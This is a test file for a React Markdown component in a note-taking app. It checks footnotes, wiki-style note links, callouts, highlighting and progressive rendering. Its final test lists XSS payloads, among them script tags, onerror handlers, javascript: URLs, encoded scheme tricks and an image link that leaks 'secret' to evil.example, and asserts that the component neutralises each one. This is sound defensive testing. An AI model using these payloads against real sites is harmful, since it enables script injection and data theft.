import { cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/react'
import { flushSync } from 'react-dom'
import { createRoot, hydrateRoot } from 'react-dom/client'
import { renderToString } from 'react-dom/server'
import { expect, test, vi } from 'vitest'
import { Markdown } from '#app/ui/markdown.tsx'

test('a note reads as headings, lists, tasks, tables, code and callouts', () => {
  const source =
    '# Cells\n\n- [x] read\n- [ ] ask\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```js\nlet a\n```\n\n> [!tip]\n> Rest\n\n[own](/dashboard) [out](https://example.org)\n'
  render(<Markdown source={source} headingOffset={1} />)
  expect(screen.getByRole('heading', { level: 2, name: 'Cells' }).id).toBe('cells')
  expect(screen.getByRole<HTMLInputElement>('checkbox', { name: 'Done' }).checked).toBe(true)
  expect(screen.getByRole('region', { name: 'Table: a, b' }).querySelectorAll('td')).toHaveLength(2)
  expect(screen.getByRole('button', { name: 'Copy code to clipboard' })).toBeDefined()
  expect(screen.getByRole('note').textContent).toContain('Tip')
  expect(screen.getByRole('link', { name: 'out' }).getAttribute('rel')).toContain('noopener')
  expect(screen.getByRole('link', { name: 'own' }).hasAttribute('rel')).toBe(false)
})

test('footnotes are at the end, with links both ways and unique ids', () => {
  const source = 'One[^a], two[^b], one again[^a], [^none].\n\n[^a]: First **words**\n\n[^b]: Second\n\n## Fn 1\n'
  const { container, rerender } = render(<Markdown source={source} />)
  const marks = screen.getAllByRole('link', { name: /^Footnote/ })
  expect(marks.map((mark) => mark.textContent)).toEqual(['1', '2', '1'])
  const notes = within(screen.getByRole('region', { name: 'Footnotes' })).getAllByRole('listitem')
  expect(notes.map((note) => note.textContent)).toEqual(['First words↩↩2', 'Second↩'])
  for (const link of container.querySelectorAll('a[href^="#"]'))
    expect(container.querySelector(`[id="${link.getAttribute('href')?.slice(1)}"]`), link.outerHTML).not.toBeNull()
  const ids = [...container.querySelectorAll('[id]')].map(({ id }) => id)
  expect(new Set(ids).size).toBe(ids.length)
  expect(container.textContent).toContain('[^none]')
  expect(screen.getByRole('link', { name: 'Back to reference 1, place 2' })).toBeDefined()
  rerender(<Markdown source={source} idPrefix="m1-" />)
  expect(screen.getAllByRole('link', { name: 'Footnote 1' })[0]?.id).toBe('m1-fnref_1')
})

test('links to notes lead where the page says, and are text without it', () => {
  const source = '[[Cells#Walls|walls]], [[Gone]], ![[Cells]], [[#Here]]\n\n## Here\n'
  const noteHref = (target: string, heading: string | null) =>
    target === 'Cells' ? `/notes/1${heading ? `#${heading.toLowerCase()}` : ''}` : null
  const { container, rerender } = render(<Markdown source={source} noteHref={noteHref} anchors />)
  expect(screen.getByRole('link', { name: 'walls' }).getAttribute('href')).toBe('/notes/1#walls')
  expect(screen.getByRole('link', { name: 'Cells' }).getAttribute('href')).toBe('/notes/1')
  expect(screen.getByRole('link', { name: 'Here' }).getAttribute('href')).toBe('#here')
  expect(screen.getByTitle('No note of that name yet').textContent).toBe('Gone, no note of that name yet')
  expect(screen.getByRole('heading', { name: 'Here' }).id).toBe('here')
  expect(screen.getByRole('link', { name: 'Link to “Here”' }).getAttribute('href')).toBe('#here')
  rerender(<Markdown source={source} noteHref={noteHref} newNoteHref={(target) => `/new?title=${target}`} />)
  expect(screen.getByRole('link', { name: /^Gone, no note/ }).getAttribute('href')).toBe('/new?title=Gone')
  rerender(<Markdown source={source} />)
  expect(container.querySelector('a')).toBeNull()
  expect(container.querySelector('p')?.textContent).toBe('walls, Gone, Cells, Here')
})

test('callouts fold, highlights are marked, and stored pictures reserve their space', () => {
  // This DOM loads no pictures, yet says of all that they are complete.
  vi.spyOn(HTMLImageElement.prototype, 'complete', 'get').mockReturnValue(false)
  const id = '0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b'
  const source = `> [!tip]- Try **this**\n> Hidden words\n\n==marked==\n\n![A cell](/api/attachments/${id}#640x480)\n\n<details>raw</details>\n`
  const { container, rerender } = render(<Markdown source={source} />)
  const folded = container.querySelector('details')
  expect(folded?.open).toBe(false)
  expect(folded?.querySelector('summary')?.textContent).toBe('Try this')
  expect(container.querySelector('mark')?.textContent).toBe('marked')
  const picture = screen.getByRole<HTMLImageElement>('img', { name: 'A cell' })
  expect(picture.getAttribute('src')).toBe(`/api/attachments/${id}`)
  expect([picture.getAttribute('width'), picture.getAttribute('height'), picture.loading]).toEqual([
    '640',
    '480',
    'lazy',
  ])
  expect(container.textContent).toContain('<details>raw</details>')
  fireEvent.error(picture)
  expect(container.textContent).toContain('Picture not found: A cell')
  const start = source.indexOf('Hidden')
  rerender(<Markdown key="lit" source={source} highlighted={{ start, end: start + 6 }} />)
  expect(container.querySelector('details')?.open).toBe(true)
})

test('a cited range is highlighted exactly', () => {
  const source = '# Title\n\nFirst words. **Second** sentence.\n'
  const quote = 'words. **Second** sen'
  const start = source.indexOf(quote)
  const { container } = render(<Markdown source={source} highlighted={{ start, end: start + quote.length }} />)
  const marks = [...container.querySelectorAll('mark')].map((mark) => mark.textContent)
  expect(marks).toEqual(['words. ', 'Second', ' sen'])
})

test('while text streams in, closed blocks keep their elements', () => {
  const { container, rerender } = render(<Markdown source={'# One\n\nfirst\n\nsec'} />)
  const before = [...container.querySelectorAll('.prose > *')]
  rerender(<Markdown source={'# One\n\nfirst\n\nsecond and more\n\nthird'} />)
  const after = [...container.querySelectorAll('.prose > *')]
  expect(after).toHaveLength(4)
  expect(after.slice(0, 2)).toEqual(before.slice(0, 2))
  expect(after[2]?.textContent).toBe('second and more')
  // A footnote that is explained later changes its mark, and nothing around it.
  rerender(<Markdown source={'# One\n\nfirst[^1] words\n\nsec'} />)
  const first = container.querySelector('p')
  expect(first?.textContent).toBe('first[^1] words')
  rerender(<Markdown source={'# One\n\nfirst[^1] words\n\nsec\n\n[^1]: expl'} />)
  expect(container.querySelector('p')).toBe(first)
  expect(first?.textContent).toBe('first1 words')
})

const WORDS = 'A paragraph of a long note, with **strong** words in it.'
const LONG = `# Start\n\n${`${WORDS}\n\n`.repeat(300)}## End[^1]\n\nThe <b>last</b> words.\n\n[^1]: Explained\n`

test('of a long text the beginning is rendered first, the rest as source, and then part by part to the same result', async () => {
  const first = renderToString(<Markdown source={LONG} progressive headingOffset={1} />)
  expect(first.match(/<strong>/g)?.length).toBeLessThan(120)
  expect(first).toContain('A paragraph of a long note, with **strong** words')
  expect(first).toContain('The &lt;b&gt;last&lt;/b&gt; words.')
  expect(first).not.toMatch(/<h3|Explained<\/p>|<b>/)

  const onWhole = vi.fn()
  const container = document.body.appendChild(document.createElement('div'))
  container.innerHTML = first
  const wrong = vi.fn()
  const root = hydrateRoot(container, <Markdown source={LONG} progressive headingOffset={1} onComplete={onWhole} />, {
    onRecoverableError: wrong,
  })
  const started = container.querySelector('h2')
  await waitFor(() => expect(onWhole).toHaveBeenCalledOnce(), { timeout: 10_000 })
  expect(wrong).not.toHaveBeenCalled()
  expect(container.querySelector('h2')).toBe(started)
  const whole = render(<Markdown source={LONG} headingOffset={1} />).container
  expect(container.textContent).toBe(whole.textContent)
  const tags = (within: Element) => [...within.querySelectorAll(':not(.prose)')].map((each) => each.outerHTML)
  expect(tags(container)).toEqual(tags(whole))
  expect(screen.getAllByRole('link', { name: 'Footnote 1' })).toHaveLength(2)
  root.unmount()
  container.remove()

  const start = LONG.indexOf('last</b>')
  const { container: cited } = render(<Markdown source={LONG} progressive highlighted={{ start, end: start + 4 }} />)
  expect(cited.querySelector('[data-cited]')?.textContent).toBe('last')
})

test('a long text that the browser opens itself begins with half of what the server renders', () => {
  const strong = (html: string) => html.match(/<strong>/g)?.length ?? 0
  const container = document.createElement('div')
  const root = createRoot(container)
  // Without `act`, so that no effect has rendered further parts yet.
  Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: false })
  flushSync(() => root.render(<Markdown source={LONG} progressive />))
  const opened = strong(container.innerHTML)
  expect(opened).toBeGreaterThan(10)
  expect(opened).toBeLessThan(0.6 * strong(renderToString(<Markdown source={LONG} progressive />)))
  root.unmount()
  Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true })
})

test('a short text, or one block however long, is rendered at once', () => {
  for (const source of [WORDS, `- ${WORDS}\n`.repeat(2_000)]) {
    const { container } = render(<Markdown source={source} progressive />)
    expect(container.textContent).not.toContain('**')
    cleanup()
  }
})

/** So long that what comes after it stands as its source at first. */
const FILLING = `${'words '.repeat(2_100)}\n\n`

test('nothing in a text can run, load or link somewhere unsafe', () => {
  const payloads = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt&colon;alert(1))',
    '[a](java&Tab;script:alert(1))',
    '[a](&#1;javascript:alert(1))',
    '[a](data:text/html;base64,PHNjcmlwdD4=)',
    '[a](vbscript:x)',
    '![a](javascript:alert(1))',
    '![a](https://evil.example/p.png?data=secret)',
    '![a][r]\n\n[r]: data:text/html,x',
    '<javascript:alert(1)>',
    '[a](//evil.example)',
    '[a](/\\evil.example)',
    '`<img src=x onerror=alert(1)>`',
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    '| <img src=x onerror=alert(1)> |\n| - |\n| [a](javascript:1) |',
    '> [!note] <img src=x onerror=alert(1)>\n> <style>*{}</style>',
    '# <a href="javascript:alert(1)">x</a>',
    '$<img src=x onerror=alert(1)>$',
    '[a](https://example.org "onmouseover=alert(1)")',
    '<a href="javascript:alert(1)">a</a>',
    'a\u0000b <b\u0000 onclick=alert(1)>',
  ]
  for (const payload of payloads) {
    const started = renderToString(<Markdown source={FILLING + payload} progressive />)
    const rest = started.slice(started.lastIndexOf('pre-wrap'))
    expect(rest.length, payload).toBeGreaterThan(payload.length)
    expect(rest, payload).not.toMatch(/<(?!\/div>)/)
    for (let end = 1; end <= payload.length; end++) {
      const { container } = render(<Markdown source={payload.slice(0, end)} />)
      expect(
        container.querySelector('script,img,svg[onload],iframe,style,object,embed,form,base,link'),
        payload,
      ).toBeNull()
      for (const element of container.querySelectorAll('*')) {
        for (const { name } of element.attributes) expect(name.startsWith('on'), payload).toBe(false)
        const href = element.getAttribute('href')
        if (href !== null) expect(href, payload).toMatch(/^(https?:\/\/|mailto:|#|\/(?![/\\]))/i)
      }
      cleanup()
    }
  }
})
